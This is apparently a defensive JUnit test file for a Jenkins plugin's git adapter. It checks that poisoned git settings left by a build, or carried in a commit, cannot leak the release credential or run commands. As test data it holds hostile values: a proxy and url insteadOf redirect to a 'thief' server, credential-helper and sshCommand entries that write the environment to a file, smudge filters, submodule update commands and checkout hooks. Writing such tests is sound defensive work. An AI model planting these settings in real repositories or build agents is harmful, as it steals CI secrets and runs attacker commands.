package io.jenkins.plugins.aegis.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.aegis.adapter.git.GitAccess;
import io.jenkins.plugins.aegis.adapter.git.GitAccess.BasicCredential;
import io.jenkins.plugins.aegis.adapter.git.GitCli;
import io.jenkins.plugins.aegis.model.CommitId;
import io.jenkins.plugins.aegis.port.PortUnavailable;
import io.jenkins.plugins.aegis.port.Workspace;
import io.jenkins.plugins.aegis.testing.Canaries;
import io.jenkins.plugins.aegis.testing.GitHttpServer;
import io.jenkins.plugins.aegis.testing.GitRemote;
import io.jenkins.plugins.aegis.testing.LocalCommandRunner;
import io.jenkins.plugins.aegis.testing.LocalWorkspace;
import io.jenkins.plugins.aegis.testing.ScriptedServer;
import io.jenkins.plugins.aegis.testing.WatchedCommandRunner;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A commit, or what a build of it left on the agent, wants the real git to show the credential or to run something. */
class GitTokenTest {
    @TempDir
    Path directory;

    private final Canaries canaries = new Canaries();
    private final WatchedCommandRunner commands = new WatchedCommandRunner(new LocalCommandRunner());
    private GitRemote remote;
    private GitHttpServer server;
    private ScriptedServer thief;
    private Path cache;
    private Path stolen;

    @BeforeEach
    void serve() throws Exception {
        remote = GitRemote.in(directory);
        remote.commit("first", "a", "a");
        remote.push();
        Path bare = Path.of(remote.url());
        server = new GitHttpServer(bare.getParent());
        thief = new ScriptedServer();
        cache = directory.resolve("agent/repository.git");
        stolen = directory.resolve("stolen");
    }

    @AfterEach
    void end() {
        server.close();
        thief.close();
    }

    private GitCli git() {
        return new GitCli(
                commands,
                new LocalWorkspace(directory.resolve("agent")),
                new GitAccess(
                        server.base() + "/" + Path.of(remote.url()).getFileName(),
                        Optional.of(new BasicCredential("releases", password())),
                        "Release",
                        "release@example.org"));
    }

    private String password() {
        if (!canaries.kinds().contains("git")) {
            canaries.plant("git");
        }
        return canaries.secret("git");
    }

    private void poison(String settings) throws Exception {
        Files.writeString(
                cache.resolve("config"),
                settings.replace("THIEF", thief.base().toString()).replace("STOLEN", stolen.toString()),
                StandardOpenOption.APPEND);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[http]\n\tproxy = THIEF\n",
                "[credential]\n\thelper = \"!env > STOLEN; false\"\n",
                "[core]\n\tsshCommand = \"env > STOLEN\"\n[include]\n\tpath = /tmp/elsewhere\n",
                "[url \"THIEF/\"]\n\tinsteadOf = http://127.0.0.1\n"
            })
    @DisplayName("L35 settings that a build left in git's cache do not hold for the next step")
    void forgetsSettingsThatABuildLeft(String settings) throws Exception {
        assertThat(git().observe().asOptional()).isPresent();
        poison(settings);

        assertThat(git().observe().asOptional().orElseThrow().branches()).containsKey("main");
        assertThat(thief.requests()).isEmpty();
        assertThat(stolen).doesNotExist();
    }

    @Test
    @DisplayName("L35 settings that change while a step runs keep the credential back")
    void keepsTheCredentialBackWhenSettingsChange() throws Exception {
        GitCli git = git();
        git.observe();
        poison("[http]\n\tproxy = THIEF\n");

        assertThatThrownBy(() -> git.createBranch("release/1.0.0", remote.head()))
                .isInstanceOf(PortUnavailable.class)
                .hasMessageContaining("Somebody changed the settings of git's cache");
        assertThat(thief.requests()).isEmpty();
    }

    @Test
    @DisplayName("L35 a history that a build invented in git's cache is forgotten")
    void forgetsAnInventedHistory() throws Exception {
        git().observe();
        CommitId first = remote.head();
        CommitId second = remote.commit("second", "b", "b");
        remote.push();
        Files.createDirectories(cache.resolve("info"));
        Files.writeString(cache.resolve("info/grafts"), first + " " + second + "\n");

        GitCli git = git();
        git.observe();

        assertThat(git.isAncestor(second, first).asOptional()).contains(false);
    }

    @Test
    @DisplayName("L35 attributes, modules and hooks of a commit run nothing when it is checked out")
    void runsNothingWhenACommitIsCheckedOut() throws Exception {
        remote.file(".gitattributes", "* filter=steal diff=steal merge=steal\n");
        remote.file(
                ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = " + thief.base() + "/x.git\n\tupdate = !env\n");
        remote.file(".gitconfig", "[filter \"steal\"]\n\tsmudge = env > " + stolen + "\n");
        remote.file("hooks/post-checkout", "#!/bin/sh\nenv > " + stolen + "\n");
        CommitId commit = remote.commit("attack", "git", "#!/bin/sh\nenv > " + stolen + "\n");
        remote.push();
        GitCli git = git();
        git.observe();

        Workspace checkout = git.checkOut(commit);

        assertThat(checkout.readText(".gitattributes")).contains("steal");
        assertThat(stolen).doesNotExist();
        assertThat(thief.requests()).isEmpty();
    }

    @Test
    @DisplayName("L32 the credential is in no argument, no file of the cache, and no complaint")
    void keepsTheCredentialToTheEnvironment() throws Exception {
        GitCli git = git();
        git.observe();
        git.createBranch("release/1.0.0", remote.head());
        git.checkOut(remote.head());
        server.close();
        String complaint = git.observe().unknownReason().orElseThrow();

        canaries.search(commands.commands()).searchBelow(directory).search("complaint", complaint);

        assertThat(canaries.escaped()).isEmpty();
        assertThat(commands.commands()).anyMatch(command -> !command.secrets().isEmpty());
    }
}
